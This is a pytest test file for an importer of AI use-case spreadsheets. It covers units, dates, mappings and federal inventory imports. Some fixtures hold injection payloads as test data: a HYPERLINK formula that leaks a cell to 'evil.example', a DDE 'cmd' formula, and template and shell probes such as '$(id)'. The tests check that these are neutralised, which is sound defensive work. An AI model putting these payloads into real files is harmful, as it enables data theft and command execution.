"""Spreadsheets of use cases: small ones worked by hand, the two federal inventories whole, a workspace that grows."""

import csv
import gzip
import json
from collections import Counter

import pandas as pd
import pytest
import xlsxwriter
import yaml
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

import aifactory
from aifactory.cli import app
from aifactory.errors import InputError, StageError
from aifactory.inputs.check import check_workspace
from aifactory.inputs.contracts import load_contract
from aifactory.inputs.importers.command import Target, import_files, suggest_mapping
from aifactory.inputs.importers.use_cases.mapping import mapping_text, read_mapping_file, suggest
from aifactory.inputs.importers.use_cases.merge import held_rows
from aifactory.inputs.importers.use_cases.quantities import months, number, quantity_of
from aifactory.inputs.importers.use_cases.read import read_use_cases
from aifactory.inputs.importers.use_cases.report import ask_table, use_case_report
from aifactory.inputs.importers.use_cases.sheet import write_sheet
from aifactory.inputs.importers.use_cases.words import known_value, slug, vocabulary
from aifactory.inputs.new import new_workspace
from aifactory.inputs.spreadsheet import read_spreadsheet
from aifactory.inputs.tables import read_table
from aifactory.inputs.workspace import load_workspace

TODAY = pd.Timestamp("2026-11-25", tz="UTC")
#: Real headers of a public inventory, and of the article's kind of company.
COMPANY = (
    "Use Case;Line of Business;Squad;Accountable;LLM;Mode;Tier;Status;Go-live;Calls per day;Run cost per year (USD);"
    "Latency target p95 (s);Comment\n"
    'Chat;Retail;CX;Head of service;Llama-3.1-8B;Real-time;Mission critical;In production;03/2025;1000;24000;2;"two\nlines"\n'
    "Scan;retail ;Ops;Head of ops;;Nightly;Internal;PoC;13/05/2026;n/a;;;=1+1\n"
)
COMPLETE = (
    "use_case_id,name,workload_class,business_unit,team,owner_role,service_unit,request_pattern,criticality,stage\n"
    "extra,Extra,real_time_inference,retail,cx,head of service,request,interactive,internal,pilot\n"
)


def write(folder, text, name="cases.csv"):
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def read(folder, text, mapping=None):
    return read_use_cases(write(folder, text), TODAY, mapping)


def imported(path, into, *, replace=False, **target):
    return import_files("use-cases", [path], into, Target(today=TODAY, **target), replace=replace)[0]


@pytest.fixture
def empty(tmp_path):
    return new_workspace(tmp_path / "empty")


@pytest.fixture(params=[(2025, 3611), (2023, 710)], ids=["2025", "2023"])
def federal(request, shared_dir):
    year, rows = request.param
    return shared_dir / "data" / "inventory" / f"us_federal_ai_use_cases_{year}.csv.gz", rows


def test_a_company_s_own_headers_values_and_units_are_understood(tmp_path):
    found = read(tmp_path, COMPANY)
    chat, scan = found.frame.to_dict("records")
    assert {name: chat[name] for name in ("name", "business_unit", "team", "owner_role", "model")} == {
        "name": "Chat", "business_unit": "Retail", "team": "CX", "owner_role": "Head of service", "model": "Llama-3.1-8B",
    }  # fmt: skip
    assert (chat["request_pattern"], chat["criticality"], chat["stage"]) == ("interactive", "critical", "production")
    assert (scan["request_pattern"], scan["criticality"], scan["stage"]) == ("scheduled", "internal", "pilot")
    assert (chat["launch_month"], scan["launch_month"]) == ("2025-03", "2026-05")
    assert float(chat["stated_units_per_month"]) == pytest.approx(1000 * 365 / 12)
    assert float(chat["stated_usd_per_month"]) == 2000
    assert float(chat["slo_p95_e2e_ms"]) == 2000
    assert scan["business_unit"] == "Retail"
    assert pd.isna(scan["stated_units_per_month"])
    assert (chat["x_comment"], scan["x_comment"]) == ("two\nlines", "=1+1")
    assert (chat["x_calls_per_day"], chat["x_tier"]) == ("1000", "Mission critical")
    assert (chat["source"], chat["as_of"]) == ("cases.csv, row 2", "2026-11-25")


def test_the_report_asks_each_owner_for_what_is_missing(tmp_path):
    report = use_case_report(read(tmp_path, COMPANY))
    assert report["ask"] == [
        {"business_unit": "Retail", "team": "Ops", "owner_role": "Head of ops", "use_cases": 1,
         "missing": {"volume": 1, "latency target": 1, "cost": 1}},
    ]  # fmt: skip
    assert (report["coverage"]["volume"], report["coverage"]["workload_class"]) == (0.5, 0.0)
    assert {"field": "stage", "theirs": "PoC", "ours": "pilot", "rows": 1, "certainty": "same"} in report["recoded"]
    assert any("stated_units_per_month = 'Calls per day' x 30.4167" in text for text in report["assumed"])


@pytest.mark.parametrize(
    ("header", "why"),
    [
        ("Cost per month", "names no currency"),
        ("Annual cost (EUR)", "is not in USD; currencies are never converted without a rate"),
        ("Cost in USD", "names no period (per month, per year)"),
        ("Average latency (ms)", "is not named as a target for the 95th percentile"),
        ("Latency target", "names no unit (ms, s)"),
        ("p99 latency target (ms)", "is not named as a target for the 95th percentile"),
    ],
)
def test_a_quantity_without_unit_period_or_currency_is_not_used(tmp_path, header, why):
    assert quantity_of(header).why_not == why
    found = read(tmp_path, f"Name,Team,{header}\nA,x,100\n")
    assert not {"stated_usd_per_month", "slo_p95_e2e_ms"} & set(found.frame)
    assert any(f"'{header}' was not taken" in text and why in text for text in found.assumed)
    extra = next(name for name in found.frame if name.startswith("x_"))
    assert found.frame[extra].tolist() == ["100"]


@pytest.mark.parametrize(
    ("text", "comma", "value"),
    [("1.5", False, 1.5), ("1,234,567", False, 1234567.0), ("1.234", True, None), ("1,234", True, None), ("n/a", False, None),
     ("1e400", False, None), ("nan", False, None), ("inf", False, None), ("12 000", False, None), ("$5", False, 5.0)],
)  # fmt: skip
def test_a_number_that_can_be_read_in_two_ways_is_not_read(text, comma, value):
    assert number(text, decimal_comma=comma) == value


@pytest.mark.parametrize(
    ("texts", "found"),
    [
        (["2024-10-01 00:00:00", "01/2024", "Jan 2024", "January 5, 2024", "5 May 2024", "Jul-25"],
         ["2024-10", "2024-01", "2024-01", "2024-01", "2024-05", "2025-07"]),
        (["01/02/2026", "05/05/2026"], ["", "2026-05"]),
        (["01/02/2026", "25/12/2026"], ["2026-02", "2026-12"]),
        (["01/02/2026", "12/25/2026"], ["2026-01", "2026-12"]),
        (["2025", "Q3 2025", "soon", "13/2025", "2025-13-01"], [""] * 5),
        (["45566"], ["2024-10"]),
    ],
)  # fmt: skip
def test_months_are_read_only_where_they_are_clear(texts, found):
    assert months(pd.Series(texts)).tolist() == found


def test_a_value_that_matches_nothing_is_listed_and_left_unknown(tmp_path):
    found = read(tmp_path, "Use case,Stage\nA,On hold\nB,Live\nC,On hold\n")
    assert found.frame["stage"].isna().tolist() == [True, False, True]
    assert {"field": "stage", "theirs": "On hold", "ours": "", "rows": 2, "certainty": "unknown"} in found.recoded
    assert ("stage: values that match nothing are left unknown", 2) in found.warnings
    assert found.frame["x_stage"].tolist() == ["On hold", "Live", "On hold"]


@given(st.sampled_from(["c)  {}", "(2) {}", " {}\u00a0", "{} \u2013 as defined", "iv) {}", "{};"]), st.data())
def test_letters_spaces_and_dashes_hide_no_value(form, data):
    field = data.draw(st.sampled_from(["stage", "criticality", "request_pattern", "workload_class"]))
    text = data.draw(st.sampled_from(sorted(vocabulary(field))))
    assert known_value(field, form.format(text.upper().replace(" ", "\u2010", 1)))[0] == vocabulary(field)[text][0]


def test_no_text_of_the_vocabulary_means_two_things():
    with (vocabulary.__wrapped__.__globals__["HERE"] / "vocabulary.csv").open(encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    for field in {row["field"] for row in rows}:
        texts = Counter(text for row in rows if row["field"] == field for text in row["texts"].split("|"))
        assert [text for text, count in texts.items() if count > 1] == []
        assert {row["ours"] for row in rows if row["field"] == field} == set(
            load_contract("use_cases").field(field).enum
        )


def test_identifiers_are_unique_valid_and_do_not_depend_on_the_order_of_rows(tmp_path):
    rows = ["35,A,Chat", "35,B,Chat", ",A,Chat", ",A,Chat", ",,", "U/1,B,Caf\u00e9 \u2013 v2", ",B,Same", ",B,Same"]
    rows[4] = ",,\u4f60"
    ids = {}
    for order in (rows, rows[::-1]):
        frame = read(tmp_path, "ID,Department,Title\n" + "\n".join(order) + "\n").frame
        assert frame["use_case_id"].is_unique
        assert frame["use_case_id"].str.fullmatch("[a-z0-9][a-z0-9._-]{0,63}").all()
        ids[order[0]] = sorted(frame["use_case_id"])
    assert ids[rows[0]] == ids[rows[-1]]
    assert {"a-35", "b-35", "u-1"} <= set(ids[rows[0]])


def test_repeated_names_are_named_and_kept(tmp_path):
    found = read(tmp_path, "Department,Title\nA,Chat\nB,Chat\nA,Chat\nA,chat\n")
    assert len(found.frame) == 4
    texts = [text for text, _ in found.warnings]
    assert "1 pairs of business unit and name stand in several rows; all are kept: A 'Chat' in rows 2, 4" in texts


def test_persons_are_never_taken_for_a_role(tmp_path):
    found = read(tmp_path, "Use case,Owner\nA,Jane Roe\nB,John Doe\n")
    assert "owner_role" not in found.frame
    assert any("looks like names of persons" in text for text in found.assumed)
    assert "owner_role" not in read(tmp_path, "Use case,Contact\nA,jane@example.org\n").frame


def test_a_table_without_names_is_refused_with_the_way_out(tmp_path):
    with pytest.raises(InputError, match=r"column 'name': no column can be taken .* --suggest-mapping"):
        read(tmp_path, "colour,size\nred,1\n")


def test_a_header_without_rows_is_refused(tmp_path):
    with pytest.raises(InputError, match="row 1: has a header and no rows below it"):
        read(tmp_path, "Use case,Team\n")


def test_the_sheet_with_the_use_cases_is_found(tmp_path):
    path = tmp_path / "cases.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        for name, rows in {
            "Cover": [["Inventory 2026"]],
            "Data": [["Use case", "Team"], ["A", "x"], ["B", "y"]],
        }.items():
            sheet = book.add_worksheet(name)
            for number, row in enumerate(rows):
                sheet.write_row(number, 0, row)
    found = read_use_cases(path, TODAY)
    assert found.frame["name"].tolist() == ["A", "B"]
    assert found.frame["source"][0] == "cases.xlsx, sheet 'Data', row 2"
    assert ("sheet 'Cover' was not read", 0) in found.warnings


def test_the_suggested_mapping_reads_back_and_gives_the_same_rows(tmp_path, shared_dir):
    path, rows = shared_dir / "data" / "inventory" / "us_federal_ai_use_cases_2023.csv.gz", 710
    out = suggest_mapping("use-cases", [path], tmp_path / "map.yaml")
    mapping = read_mapping_file(out)
    assert mapping.columns == suggest(read_spreadsheet(path)[0]).columns
    first, second = read_use_cases(path, TODAY), read_use_cases(path, TODAY, mapping)
    pd.testing.assert_frame_equal(first.frame, second.frame)
    assert len(second.frame) == rows
    with pytest.raises(InputError, match="a mapping is never overwritten"):
        suggest_mapping("use-cases", [path], out)


def test_a_confirmed_mapping_decides(tmp_path):
    path = write(tmp_path, "A,B,C\nChat,weird,5\n")
    mapping = write(tmp_path, yaml.safe_dump({"columns": {"name": "A", "stage": "B", "stated_units_per_month": "C"},
                    "values": {"stage": {"weird": "pilot"}}, "factors": {"stated_units_per_month": 10},
                    "constants": {"team": "cx", "as_of": "2026-10-31", "owner_role": "head of data"}}), "map.yaml")  # fmt: skip
    row = read_use_cases(path, TODAY, read_mapping_file(mapping)).frame.iloc[0]
    assert (row["name"], row["stage"], row["stated_units_per_month"]) == ("Chat", "pilot", "50")
    assert (row["team"], row["as_of"], row["owner_role"]) == ("cx", "2026-10-31", "head of data")


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ({"colums": {}}, "Did you mean 'columns'"),
        ({"columns": {"stagee": "B"}}, "Did you mean 'stage'"),
        (
            {"values": {"stage": {"x": "pilott"}}},
            "column 'stage': value 'pilott': is not allowed. Did you mean 'pilot'",
        ),
        ({"factors": {"stated_units_per_month": -1}}, "a factor must be a number above 0"),
        ({"constants": {"name": "x"}}, "cannot be the same for every row"),
        ({"columns": ["name"]}, "must hold names and values"),
    ],
)
def test_a_wrong_mapping_is_named(tmp_path, content, words):
    path = write(tmp_path, yaml.safe_dump(content), "map.yaml")
    with pytest.raises(InputError) as caught:
        read_mapping_file(path)
    assert words in str(caught.value)


def test_a_mapping_to_a_column_that_is_not_there_is_named(tmp_path):
    mapping = read_mapping_file(write(tmp_path, "columns: {name: Titel}\n", "map.yaml"))
    with pytest.raises(InputError, match="value 'Titel': .* Did you mean 'Title'"):
        read(tmp_path, "Title,Team\nA,x\n", mapping)


def test_a_mapping_is_valid_yaml_for_any_header_and_value(tmp_path):
    hostile = 'Name,"Stage: # ""x""\n!!python/object",Team\nA,"{{ 7*7 }}",x\n'
    sheet = read_spreadsheet(write(tmp_path, hostile))[0]
    text = mapping_text(sheet, suggest(sheet))
    assert yaml.safe_load(text)["columns"]["name"] == "Name"


# ------------------------------------------------------------------ the federal inventories


def test_a_federal_inventory_imports_whole_and_unharmed(federal, tmp_path):
    path, rows = federal
    workspace = new_workspace(tmp_path / "ws")
    report = imported(path, workspace)
    assert (report["rows_read"], report["rows_kept"], report["rows_left_out"]) == (rows, rows, {})
    assert (report["into"]["added"], report["into"]["use_cases"], report["into"]["candidates"]) == (rows, 0, rows)
    with gzip.open(path, "rt", encoding="utf-8-sig", newline="") as stream:
        source = list(csv.DictReader(stream))
    held = held_rows(workspace)
    stored = {name: held[name].tolist() for name in held}
    for header in source[0]:
        theirs = [row[header] for row in source]
        ours = next((name for name, used in report["columns"].items() if used == header), "")
        extra = f"x_{slug(header).replace('-', '_')}"
        assert theirs in (stored.get(extra), stored.get(ours)), header


def test_the_federal_inventory_of_2025_in_numbers(shared_dir):
    report = use_case_report(read_use_cases(shared_dir / "data/inventory/us_federal_ai_use_cases_2025.csv.gz", TODAY))
    assert report["by"]["stage"] == {"idea": 1479, "production": 1040, "pilot": 440, "(unknown)": 338, "retiring": 314}
    assert report["by"]["criticality"] == {"(unknown)": 3166, "critical": 445}
    assert report["by"]["workload_class"] == {"(unknown)": 3202, "multimodal_media": 292, "agentic_orchestration": 117}
    assert len(report["by"]["business_unit"]) == 41
    assert (report["coverage"]["volume"], report["coverage"]["cost"], report["coverage"]["latency target"]) == (0, 0, 0)
    assert sum(item["use_cases"] for item in report["ask"]) == 3611
    texts = {text.split(":")[0]: rows for text, rows in ((item["text"], item["rows"]) for item in report["warnings"])}
    assert texts["no name of a use case in row 839; kept"] == 1
    assert any(text.startswith("25 pairs of business unit and name stand in several rows") for text in texts)
    assert texts["text looks decoded wrongly once before; it is kept as it stands"] == 2


# ------------------------------------------------------------------ in a workspace


def test_a_catalogue_alone_is_checked_and_reported(tmp_path):
    workspace = new_workspace(tmp_path / "ws")
    imported(write(tmp_path, COMPANY), workspace)
    found = check_workspace(workspace)
    assert found.failures == []
    assert any("2 use cases are in no plan until their gaps are filled" in text for text in found.warnings)
    ws = load_workspace(workspace)
    assert ws.period == "2026-11"
    assert len(aifactory.build_inventory(ws).use_cases) == 0
    with pytest.raises(StageError, match="no use case is complete"):
        aifactory.build_benchmark(ws)


def test_a_complete_row_becomes_a_use_case_and_others_wait(mini, tmp_path):
    before = load_workspace(mini).table("use_cases")
    imported(write(tmp_path, COMPANY), mini)
    report = imported(write(tmp_path, COMPLETE, "more.csv"), mini)
    assert report["into"] == {"added": 1, "changes": [], "use_cases": 4, "candidates": 2, "completed": []}
    ws = load_workspace(mini)
    assert ws.table("use_cases")["use_case_id"].tolist() == ["chat", "images", "models", "extra"]
    pd.testing.assert_frame_equal(ws.table("use_cases")[:3], before)
    assert ws.table("use_case_candidates")["name"].tolist() == ["Chat", "Scan"]
    inventory = aifactory.build_inventory(ws)
    assert len(inventory.use_cases) == 4


def test_the_same_file_again_changes_nothing(empty, tmp_path):
    path = write(tmp_path, COMPANY)
    imported(path, empty)
    before = {item.name: item.read_bytes() for item in empty.glob("use_case*")}
    report = imported(path, empty)
    assert report["into"]["added"] == 0
    assert report["into"]["changes"] == []
    assert {item.name: item.read_bytes() for item in empty.glob("use_case*")} == before


def test_a_gap_is_filled_and_another_value_is_named_and_kept(empty, tmp_path):
    imported(write(tmp_path, COMPLETE), empty)
    later = COMPLETE.replace("stage\n", "stage,slo_p95_e2e_ms\n").replace("internal,pilot", "critical,pilot,900")
    report = imported(write(tmp_path, later, "later.csv"), empty)
    assert report["into"]["changes"] == [{"use_case_id": "extra", "field": "slo_p95_e2e_ms", "old": "", "new": "900"}]
    assert any("extra criticality: 'internal', not 'critical'" in item["text"] for item in report["warnings"])
    row = held_rows(empty).loc["extra"]
    assert (row["criticality"], row["slo_p95_e2e_ms"], row["source"]) == (
        "internal",
        "900",
        "cases.csv, row 2; later.csv, row 2",
    )
    again = imported(tmp_path / "later.csv", empty, replace=True)
    assert [(item["old"], item["new"]) for item in again["into"]["changes"]] == [("internal", "critical")]


def test_demand_of_a_candidate_names_what_it_lacks(mini, tmp_path):
    cases = pd.read_csv(mini / "use_cases.csv", dtype="str")
    cases[cases["use_case_id"] != "chat"].to_csv(mini / "use_cases.csv", index=False)
    gone = cases[cases["use_case_id"] == "chat"].drop(columns=["criticality", "stage"])
    gone.to_csv(mini / "use_case_candidates.csv", index=False)
    with pytest.raises(InputError, match="value 'chat': is a candidate that lacks criticality, stage"):
        load_workspace(mini)


def test_demand_of_a_complete_candidate_says_how_it_becomes_a_use_case(mini):
    cases = pd.read_csv(mini / "use_cases.csv", dtype="str")
    cases[cases["use_case_id"] != "chat"].to_csv(mini / "use_cases.csv", index=False)
    cases[cases["use_case_id"] == "chat"].to_csv(mini / "use_case_candidates.csv", index=False)
    with pytest.raises(
        InputError, match=r"lacks nothing: describe its regions in plan.yaml, then import its row again"
    ):
        load_workspace(mini)


def test_one_use_case_in_both_tables_is_refused(empty, tmp_path):
    imported(write(tmp_path, COMPLETE), empty)
    (empty / "use_case_candidates.csv").write_text("use_case_id,source,as_of\nextra,x,2026-10-31\n")
    with pytest.raises(InputError, match="value 'extra': is in use_cases too"):
        imported(write(tmp_path, COMPLETE), empty)


def test_formulas_are_harmless_in_the_files_of_a_workspace_and_come_back(empty, tmp_path):
    imported(write(tmp_path, "Use case,Team\n=1+1,@x\n-2+3,'=y\n"), empty)
    text = (empty / "use_case_candidates.csv").read_text(encoding="utf-8")
    assert not [cell for row in csv.reader(text.splitlines()) for cell in row if cell.startswith(("=", "@", "-"))]
    frame = read_table(empty / "use_case_candidates.csv", load_contract("use_case_candidates")).frame
    assert frame["name"].tolist() == ["=1+1", "-2+3"]
    assert frame["team"].tolist() == ["@x", "'=y"]


def test_the_command_line_says_what_was_assumed_recoded_and_asked(empty, tmp_path):
    path = write(tmp_path, COMPANY)
    done = CliRunner().invoke(app, ["import", "use-cases", str(path), "--into", str(empty)])
    assert done.exit_code == 0, done.output
    for words in ("ASSUMED use_case_id is made", "RECODED stage: 'PoC' -> pilot (1 rows)", "ASK Retail / Ops / Head of ops",
                  "2 added; 0 use cases and 2 candidates now"):  # fmt: skip
        assert words in done.output
    report = json.loads(CliRunner().invoke(app, ["import", "use-cases", str(path), "--json"]).output)
    assert report["coverage"]["cost"] == 0.5


def test_the_owner_with_most_gaps_is_asked_first():
    frame = pd.DataFrame({"business_unit": ["a", "b", "b", None], "slo_p95_ttft_ms": [1.0, None, None, None],
                          "workload_class": [None, "batch_training", None, None], "stated_usd_per_month": [5.0, 5.0, 5.0, 5.0]})  # fmt: skip
    asked = ask_table(frame)
    assert asked[["business_unit", "use_cases", "volume", "latency target", "cost"]].to_numpy().tolist() == [
        ["b", 2, 2, 1, 0], ["(unknown)", 1, 1, 1, 0], ["a", 1, 1, 0, 0],
    ]  # fmt: skip


# ------------------------------------------------------------------ the shared collection of bad inputs


EXPECTED = {
    "03_cp1252_quotes.csv": ["Citizen\u2019s helper \u2013 v2"],
    "13_embedded_newlines.csv": ['Multi\r\nline, "quoted" case', "Plain"],
    "51_formula_cells.csv": [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ],
    "55_template_text.csv": ["{{ 7*7 }}", "{0.__class__.__mro__}", "%(x)s %n", "$(id) `id`"],
}


def test_every_bad_inventory_of_the_collection_is_expected(shared_dir):
    with (shared_dir / "data" / "bad_inputs" / "cases.csv").open(encoding="utf-8", newline="") as stream:
        assert {row["file"] for row in csv.DictReader(stream) if row["target"] == "inventory"} == set(EXPECTED)


@pytest.mark.parametrize("name", EXPECTED)
def test_a_bad_inventory_reads_as_text_goes_out_as_text_and_comes_back(shared_dir, tmp_path, name):
    workspace = new_workspace(tmp_path / "ws")
    report = imported(shared_dir / "data" / "bad_inputs" / name, workspace)
    assert (report["rows_read"], report["rows_kept"]) == (len(EXPECTED[name]),) * 2
    warned = [item["text"] for item in report["warnings"] if "cp1252" in item["text"]]
    assert warned == (["not UTF-8: read as Windows text (cp1252)"] if name.startswith("03") else [])
    contract = load_contract("use_case_candidates")
    frame = read_table(workspace / "use_case_candidates.csv", contract).frame
    assert frame["name"].tolist() == EXPECTED[name]
    assert frame["stated_units_per_month"].notna().all()
    with (workspace / "use_case_candidates.csv").open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell[1:].isdigit()]
    write_sheet(workspace, tmp_path / "f.xlsx", TODAY)
    assert imported(tmp_path / "f.xlsx", workspace)["into"]["changes"] == []
    assert held_rows(workspace)["name"].tolist() == EXPECTED[name]


@pytest.mark.parametrize(
    ("header", "field", "factor"),
    [
        ("Annual run cost (k$)", "stated_usd_per_month", 1000 / 12),
        ("Monthly cost ('000 USD)", "stated_usd_per_month", 1000),
        ("CostUSDPerMonth", "stated_usd_per_month", 1),
        ("Annual cost MUSD", "stated_usd_per_month", 1e6 / 12),
        ("Requests per month (millions)", "stated_units_per_month", 1e6),
        ("Monthly calls (k)", "stated_units_per_month", 1e3),
        ("TTFT target (s)", "slo_p95_ttft_ms", 1000),
        ("p95 e2e ms", "slo_p95_e2e_ms", 1),
        ("Value per unit (USD)", "value_usd_per_unit", 1),
        ("Saving per 1 request, k$", "value_usd_per_unit", 1000),
        ("Attribution (%)", "attribution_share", 0.01),
        ("Attribution share", "attribution_share", 1),
        ("Max. failure rate (%)", "slo_max_failure_rate", 0.01),
        ("Acceptable error share", "slo_max_failure_rate", 1),
    ],
)
def test_thousands_periods_and_units_of_a_header_count(header, field, factor):
    found = quantity_of(header)
    assert (found.field, found.why_not) == (field, "")
    assert found.factor == pytest.approx(factor)


@pytest.mark.parametrize(
    ("header", "why"),
    [
        ("Cost per month (A$)", "names no currency"),
        ("Annual budget (USD)", "is a budget, not a cost"),
        ("Token volume per month", "counts tokens, not service units"),
        ("Peak requests per day", "is a peak, not a sum"),
        ("Value per call (EUR)", "is not in USD; currencies are never converted without a rate"),
        ("Value per unit", "names no currency"),
        ("Value in USD per unit and year", "is a value per period, not per service unit"),
        ("Attribution", "names no unit (%, share)"),
        ("Max. failure rate", "names no unit (%, share)"),
    ],
)
def test_what_only_looks_like_a_needed_quantity_is_not_used(header, why):
    assert quantity_of(header).why_not == why


def test_percent_becomes_a_share_unless_the_cells_are_shares_already(tmp_path):
    found = read(tmp_path, "Name,Team,Attribution (%)\nA,x,50\nB,x,0.5\n").frame
    assert found["attribution_share"].tolist() == ["0.5", "0.005"]
    doubtful = read(tmp_path, "Name,Team,Attribution (%)\nA,x,0.5\nB,x,0.4\n")
    assert "attribution_share" not in doubtful.frame
    assert any("percent or shares?" in text for text in doubtful.assumed)


def test_rows_of_totals_are_no_use_cases(tmp_path):
    found = read(tmp_path, "ID,Name,Team\n1,Total care bot,x\n2,B,x\nTotal: 2 use cases,,\n,,\nSum,,7\n")
    assert found.frame["name"].tolist() == ["Total care bot", "B"]
    assert found.left_out["rows of totals"] == 2
    assert found.rows_read == len(found.frame) + sum(found.left_out.values())


#: Headers of public registers and companies, by their own documentation: ours -> theirs.
FOREIGN = {
    "US federal 2024": (
        "Use Case Name,Agency,Bureau,Stage of Development,\"Is the AI use case rights-impacting, safety-impacting, both, or neither?\",Date Implemented,Date Retired\n"
        "Chatbot,Labor,OSHA,Operation and Maintenance,Neither,5/13/2024,\nX,Labor,BLS,Retired,Both,5/1/2020,5/20/2024\n",
        {"name": "Use Case Name", "business_unit": "Agency", "team": "Bureau", "stage": "Stage of Development",
         "criticality": "Is the AI use case rights-impacting, safety-impacting, both, or neither?",
         "launch_month": "Date Implemented", "retire_month": "Date Retired"},
    ),
    "Canada": (
        "ai_register_id,name_ai_system_en,government_organization,ai_system_status_en\nAI-1,Bot,Health Canada,In production\nAI-2,Eye,Justice,Retired\n",
        {"use_case_id": "ai_register_id", "name": "name_ai_system_en", "business_unit": "government_organization",
         "stage": "ai_system_status_en"},
    ),
    "camel case": (
        "UseCaseID,UseCaseName,BusinessLine,DeliveryTeam,AccountableExecutive,CurrentPhase,RequestsPerDay\n"
        "UC-1,AML,Compliance,Fin crime,Chief compliance officer,Phase 3 - Production,100\nUC-2,Copilot,Wealth,Squad,Head of wealth,Phase 2 - Pilot,8\n",
        {"use_case_id": "UseCaseID", "name": "UseCaseName", "business_unit": "BusinessLine", "team": "DeliveryTeam",
         "owner_role": "AccountableExecutive", "stage": "CurrentPhase", "stated_units_per_month": "RequestsPerDay"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("source", FOREIGN)
def test_headers_of_other_organisations_are_understood(tmp_path, source):
    text, columns = FOREIGN[source]
    found = read(tmp_path, text)
    assert {name: found.mapping.columns.get(name) for name in columns} == columns
    assert found.frame["stage"].notna().all()
